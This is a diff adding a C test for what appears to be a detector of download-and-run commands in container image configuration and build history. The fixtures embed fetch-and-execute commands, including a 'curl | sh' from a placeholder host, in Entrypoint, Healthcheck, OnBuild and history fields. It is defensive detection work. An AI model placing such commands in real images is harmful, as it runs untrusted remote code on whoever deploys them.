@@ -85,6 +85,40 @@ TEST(writings)
     }
 }
 
+/* What an image's configuration starts, checks and was built by. */
+TEST(configuration_of_an_image)
+{
+    static const char *const RUN[] = {
+        "{\"config\": {\"Entrypoint\": [\"/bin/sh\", \"-c\"], \"Cmd\": [\"" GET "\"]}}",
+        "{\"config\": {\"Cmd\": [\"sh\", \"-c\", \"curl -s $U | sh\"], \"Env\": [\"PATH=/bin\", \"U=https://files.example/i\"]}}",
+        "{\"config\": {\"Cmd\": [\"python3\", \"-c\", \"import os; os.system('" GET "')\"]}}",
+        "{\"config\": {\"Healthcheck\": {\"Test\": [\"CMD-SHELL\", \"" GET "\"]}}}",
+        "{\"config\": {\"Healthcheck\": {\"Test\": [\"CMD\", \"sh\", \"-c\", \"" GET "\"]}}}",
+        "{\"config\": {\"OnBuild\": [\"RUN " GET "\"]}}",
+        "{\"history\": [{\"created_by\": \"/bin/sh -c " GET "\"}]}",
+        "{\"history\": [{\"created_by\": \"RUN |1 A=b /bin/sh -c " GET " # buildkit\"}]}",
+        "{\"history\": [{\"created_by\": \"|1 A=b /bin/sh -c " GET "\"}]}",
+        "{\"history\": [{\"created_by\": \"RUN " GET "\"}]}",
+    };
+    for (size_t i = 0; i < ARRAY_SIZE(RUN); i++) {
+        look("(image configuration)", RUN[i]);
+        CHECK_CSTR(list(F_PROJECT_TOOL), "image");
+        if (!flag(F_SCRIPT_DOWNLOAD_RUN))
+            test_fail(__FILE__, __LINE__, "not run: %s", RUN[i]);
+    }
+    static const char *const OTHERS[] = {
+        "{\"config\": {\"Labels\": {\"a\": \"" GET "\"}, \"Env\": [\"A=" GET "\", \"B\"], \"Cmd\": [\"echo\", \"" GET "\"]}}",
+        "{\"history\": [{\"created_by\": \"/bin/sh -c #(nop)  LABEL a=" GET "\"}, {\"created_by\": \"COPY " GET "\"}, {\"comment\": \"" GET "\"}]}",
+        "{\"config\": 7, \"history\": {\"a\": 1}}",
+        "{\"config\": ",
+    };
+    for (size_t i = 0; i < ARRAY_SIZE(OTHERS); i++) {
+        look("(image configuration)", OTHERS[i]);
+        if (flag(F_SCRIPT_DOWNLOAD_RUN))
+            test_fail(__FILE__, __LINE__, "run: %s", OTHERS[i]);
+    }
+}
+
 TEST(near_misses)
 {
     static const char *const CASES[][2] = {
